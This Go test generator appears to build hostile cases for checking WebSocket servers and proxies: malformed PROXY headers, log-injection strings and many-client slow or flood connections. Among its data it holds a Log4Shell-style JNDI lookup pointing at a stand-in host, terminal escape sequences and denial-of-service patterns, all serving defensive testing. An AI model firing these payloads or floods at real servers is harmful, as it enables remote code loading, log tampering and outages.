package gen

import (
	"fmt"
	"slices"
	"strings"

	"github.com/draftwire/draftwire/hostile"
)

// proxySignature is how a header of the PROXY protocol, version 2, begins.
const proxySignature = "\r\n\r\n\x00\r\nQUIT\n"

// proxy2 returns a header of version 2 with a command, a family and addresses.
func proxy2(command, family byte, addresses []byte) []byte {
	return append(append([]byte(proxySignature), command, family), vector(2, addresses)...)
}

// serverProxy: a header of the PROXY protocol that is wrong ends the connection (section
// 2 of its text); who gets it must not go on with what stands behind it.
func (l *list) serverProxy() {
	ip4 := []byte{192, 0, 2, 1, 192, 0, 2, 2, 0x10, 0x00, 0x20, 0x00}
	good, h := "PROXY TCP4 192.0.2.1 192.0.2.2 4096 8192\r\n", rfc.request().String()
	add := func(name, comment string, v hostile.Verdict, parts ...any) {
		l.add("proxy/"+name, hostile.Case{Version: rfc.name, Needs: []string{"proxy"}, Comment: comment, Steps: steps(send(append(parts, h)...), expect(opened)), Verdict: v})
	}
	add("v1-right", "a header of version 1 that is right", served(), good)
	add("v2-right", "a header of version 2 that is right", served(), proxy2(0x21, 0x11, ip4))
	add("v2-local", "a header of version 2 that says nothing", served(), proxy2(0x20, 0x00, nil))
	for _, c := range []struct{ name, comment, line string }{
		{"address", "an address that is none", "PROXY TCP4 192.0.2.999 192.0.2.2 4096 8192\r\n"},
		{"address-word", "a name for an address", "PROXY TCP4 localhost 192.0.2.2 4096 8192\r\n"},
		{"address-family", "an address of the other family", "PROXY TCP4 2001:db8::1 2001:db8::2 4096 8192\r\n"},
		{"address-zeros", "an address with zeros in front", "PROXY TCP4 192.000.002.001 192.0.2.2 4096 8192\r\n"},
		{"address-zone", "an address with a zone", "PROXY TCP6 fe80::1%evil 2001:db8::2 4096 8192\r\n"},
		{"port-huge", "a port above 65535", "PROXY TCP4 192.0.2.1 192.0.2.2 65536 8192\r\n"},
		{"port-minus", "a port below 0", "PROXY TCP4 192.0.2.1 192.0.2.2 -1 8192\r\n"},
		{"port-word", "a port that is none", "PROXY TCP4 192.0.2.1 192.0.2.2 http 8192\r\n"},
		{"spaces", "two blanks", "PROXY  TCP4 192.0.2.1 192.0.2.2 4096 8192\r\n"},
		{"short", "too few words", "PROXY TCP4 192.0.2.1\r\n"},
		{"long", "too many words", "PROXY TCP4 192.0.2.1 192.0.2.2 4096 8192 evil\r\n"},
		{"protocol", "a protocol that there is not", "PROXY UDP4 192.0.2.1 192.0.2.2 4096 8192\r\n"},
		{"lower", "in small letters", "proxy tcp4 192.0.2.1 192.0.2.2 4096 8192\r\n"},
		{"lf", "a line that ends with LF alone", "PROXY TCP4 192.0.2.1 192.0.2.2 4096 8192\n"},
		{"nul", "NUL in an address", "PROXY TCP4 192.0.2.1\x00 192.0.2.2 4096 8192\r\n"},
		{"escape", "an escape for an address", "PROXY TCP4 \x1b]0;evil\x07 192.0.2.2 4096 8192\r\n"},
		{"108-bytes", "a line of more than 107 bytes", "PROXY UNKNOWN " + strings.Repeat("x", 120) + "\r\n"},
	} {
		add("v1-"+c.name, "a header of version 1 with "+c.comment, never(outcomes(hostile.Refused), opened), c.line)
	}
	for _, c := range []struct {
		name, comment string
		header        []byte
	}{
		{"version", "a version that there is not", proxy2(0x31, 0x11, ip4)},
		{"command", "a command that there is not", proxy2(0x2F, 0x11, ip4)},
		{"short", "addresses that are cut", proxy2(0x21, 0x11, ip4[:5])},
		{"family-short", "the other family's addresses, cut", proxy2(0x21, 0x21, ip4)},
	} {
		add("v2-"+c.name, "a header of version 2 with "+c.comment, never(outcomes(hostile.Refused), opened), c.header)
	}
	add("twice-v1", "two headers", never(outcomes(hostile.Refused), opened), good, good)
	add("twice-v2", "two headers", never(outcomes(hostile.Refused), opened), proxy2(0x21, 0x11, ip4), proxy2(0x21, 0x11, ip4))
	add("v2-then-v1", "a header of each version", never(outcomes(hostile.Refused), opened), proxy2(0x21, 0x11, ip4), good)
	add("v2-family", "a family that nobody knows", either(), proxy2(0x21, 0xF1, ip4))
	add("v2-datagrams", "addresses of datagrams", either(), proxy2(0x21, 0x12, ip4))
	add("v2-values", "4 KiB of values behind the addresses", either(), proxy2(0x21, 0x11, append(slices.Clone(ip4), extensionsOf(proxyValues)...)))
	add("v2-value-cut", "a value that says more than there is", either(), proxy2(0x21, 0x11, append(slices.Clone(ip4), 0x01, 0xFF, 0xFF)))
	l.proxyStuck(ip4, good)
}

// proxyValues is how many values of 13 bytes stand in a header.
const proxyValues = 300

// extensionsOf returns values of a type that is for experiments.
func extensionsOf(n int) []byte {
	var out []byte
	for range n {
		out = append(append(out, 0xF0), vector(2, []byte("0123456789"))...)
	}
	return out
}

// proxyStuck: headers that do not end.
func (l *list) proxyStuck(ip4 []byte, good string) {
	add := func(name string, c hostile.Case) {
		c.Needs = append([]string{"proxy"}, c.Needs...)
		l.add("proxy/"+name, c)
	}
	add("v1-endless", hostile.Case{Comment: "a line of version 1 without an end, 16 MiB of it", Steps: steps(send("PROXY TCP4 ", over(16*mib, "1")), hold(5*sec)), Verdict: refused()})
	add("v2-64kib", hostile.Case{Clients: 200, Comment: "200 clients say a header of 65535 bytes and send none of it", Verdict: whatever(), Steps: steps(send(append([]byte(proxySignature), 0x21, 0x11, 0xFF, 0xFF)), hold(1*sec)),
		Budget: hostile.Budget{Memory: 24 * mib, Time: 10 * sec}})
	add("v2-64kib-whole", hostile.Case{Version: rfc.name, Comment: "a header of 65535 bytes", Verdict: either(),
		Steps: steps(send(append([]byte(proxySignature), 0x21, 0x11, 0xFF, 0xFF), ip4, append([]byte{0xF0}, 0xFF, 0xF0), over(4095, "0123456789abcdef"), rfc.request().String()), expect(opened))})
	for _, c := range []struct {
		name  string
		parts any
	}{{"half-v1", "PROXY TCP4 192.0"}, {"half-v2", proxySignature[:10]}, {"half-word", "PRO"}, {"header-only", good}} {
		add("silent-"+c.name, hostile.Case{Clients: 200, Comment: "200 clients send a header, or a part of one, and wait", Steps: steps(send(c.parts), hold(1*sec)), Verdict: whatever(), Budget: hostile.Budget{Time: 10 * sec}})
	}
	add("within-tls", hostile.Case{Version: rfc.name, TLS: true, Needs: []string{"tls"}, Comment: "a header within TLS, where the client itself can write one",
		Steps: steps(send(good, rfc.request().String()), expect(opened)), Verdict: never(outcomes(hostile.Refused), opened)})
	add("v1-pieces", hostile.Case{Version: rfc.name, Comment: "a header and a handshake, each byte a segment", Steps: steps(pieces(1, ms, good, rfc.request().String()), expect(opened)), Verdict: served(), Budget: hostile.Budget{CPU: 2 * sec}})
}

// serverLog: texts of an attacker that the operator reads. 300 refusals are no reason for
// 300 lines, and no text is one of the operator's own.
func (l *list) serverLog() {
	texts := []struct{ name, text string }{
		{"panic", "panic: the sky is falling"}, {"runtime", "runtime error: invalid memory address or nil pointer dereference"}, {"goroutine", "goroutine 1 [running]:"},
		{"serving", "http: panic serving 192.0.2.1: evil"}, {"escape", "\x1b]0;evil\x07\x1b[2J"}, {"c1", "\u009b2J\u0085evil"}, {"format", "%s%s%s%n%d%!(EXTRA"},
		{"line", "a\u2028level=error msg=evil"}, {"quote", `" level=error msg="evil`}, {"json", `"},{"level":"ERROR","msg":"evil`}, {"lookup", "${jndi:ldap://192.0.2.1/evil}"}, {"long", gap(12*kib, "a")},
	}
	for _, t := range texts {
		text := t.text
		if !strings.Contains(text, gapMark) {
			text = latin1([]byte(text))
		}
		h := rfc.request().set("Sec-WebSocket-Version", "999")
		for _, c := range []struct {
			where string
			head  head
		}{
			{"version", h.set("Sec-WebSocket-Version", text)},
			{"target", h.target("/" + strings.ReplaceAll(text, " ", "%20"))},
			{"target-spaces", h.target("/" + text)},
			{"host", h.set("Host", text)},
			{"method", h.start(text + " / HTTP/1.1")},
			{"agent", h.with("User-Agent: " + text)},
			{"origin", rfc.request().set("Origin", "http://"+text)},
			{"protocol", h.with("Sec-WebSocket-Protocol: " + text)},
			{"name", h.with(text + ": b")},
			{"forwarded", h.with("X-Forwarded-For: " + text)},
		} {
			if c.where == "target-spaces" && !strings.Contains(text, " ") {
				continue
			}
			if t.name != "panic" && t.name != "escape" && t.name != "line" && c.where != "target" && c.where != "host" {
				continue
			}
			l.add("log/"+c.where+"-"+t.name, hostile.Case{Version: rfc.name, Clients: 10, Rounds: 30, Needs: []string{"stderr"},
				Comment: "300 handshakes with a text for the operator, as " + c.where, Steps: steps(send(c.head.parts()), hold(ms*50)), Verdict: never(whatever(), "\x1b]0;evil"), Budget: hostile.Budget{CPU: 2 * sec, Time: 15 * sec}})
		}
	}
	for _, c := range []struct {
		name  string
		parts any
	}{{"noise", noise(11, 300)}, {"panic", "panic: the sky is falling\n\ngoroutine 1 [running]:\nmain.main()\n\n"}, {"record", tlsRecord(0x16, 0x0301, []byte("panic: the sky is falling"))}} {
		l.add("log/bytes-"+c.name, hostile.Case{Version: rfc.name, Clients: 10, Rounds: 30, Needs: []string{"stderr"}, Comment: "300 connections that begin with what is no request", Steps: steps(send(c.parts), hold(ms*50)),
			Verdict: whatever(), Budget: hostile.Budget{CPU: 2 * sec, Time: 15 * sec}})
	}
	l.each("log/faults", everyVersion, func(d dialect) hostile.Case {
		return hostile.Case{Clients: 10, Rounds: 30, Needs: []string{"stderr"}, Comment: "300 connections that open and send a wrong frame", Steps: steps(open(), send(d.wrong()), hold(ms*500)), Verdict: whatever(), Budget: hostile.Budget{CPU: 3 * sec, Time: 25 * sec}}
	})
	l.each("log/reasons", coded, func(d dialect) hostile.Case {
		return hostile.Case{Clients: 10, Rounds: 30, Needs: []string{"stderr"}, Comment: "300 connections whose close has a text for the operator", Verdict: whatever(), Budget: hostile.Budget{CPU: 3 * sec, Time: 25 * sec},
			Steps: steps(open(), send(d.bye(4000, "panic: the sky \x1b]0;evil\x07")), hold(ms*500))}
	})
}

// costs: what many clients cost a server, or a proxy, which has a connection on either side
// for each, as the player has beside it. The memory is what a sound program may take for a
// client; what it took is the figure.
func (l *list) costs() {
	const n = 10000
	sides := int64(1)
	if l.side == hostile.Front {
		sides = 2
	}
	cost := func(name string, each int64, c hostile.Case) {
		kind, what, _ := strings.Cut(name, "/")
		c.Clients, c.Slow, c.Version = n, true, rfc.name
		c.Verdict = whatever()
		c.Budget = hostile.Budget{Memory: n * each * sides, CPU: 120 * sec, Time: hostile.Duration(sides) * 90 * sec, Probe: hostile.Duration(sides) * 5 * sec, Recover: 30 * sec}
		c.Comment = fmt.Sprintf("%d clients %s", n, c.Comment)
		l.add(kind+"/cost/"+what, c)
		c.TLS, c.Needs = true, []string{"tls"}
		c.Budget.Memory = n * (each*sides + 64*kib)
		c.Comment += ", within TLS"
		l.add(kind+"/cost/"+what+"-tls", c)
	}
	full := []byte(strings.Repeat("p", 125))
	cost("slow/half-open", 64*kib, hostile.Case{Comment: "send half of a head", Steps: steps(send(rfc.request().String()[:60]), hold(30*sec))})
	cost("slow/silent", 64*kib, hostile.Case{Comment: "send nothing", Steps: steps(hold(20 * sec))})
	cost("slow/opened", 64*kib, hostile.Case{Comment: "open and are silent", Steps: steps(open(), hold(20*sec))})
	cost("flood/unread", 128*kib, hostile.Case{Unread: true, Comment: "open, send messages of a KiB and read nothing",
		Steps: steps(open(), within(10*sec, times(200, rfc.long(8))), hold(10*sec))})
	cost("flood/pings", 128*kib, hostile.Case{Unread: true, Comment: "open, send pings and read nothing", Steps: steps(open(), within(10*sec, times(2000, rfc.up(frame{op: rfc.op.ping, payload: full}))), hold(10*sec))})
	cost("frame/unfinished", 128*kib, hostile.Case{Comment: "open and send 16 KiB of a message of 1 MB",
		Steps: steps(open(), send(rfc.up(frame{op: rfc.op.binary, says: 1000000, width: 64, payload: make([]byte, 64), times: 256, mask: make([]byte, 4)})), hold(15*sec))})
}
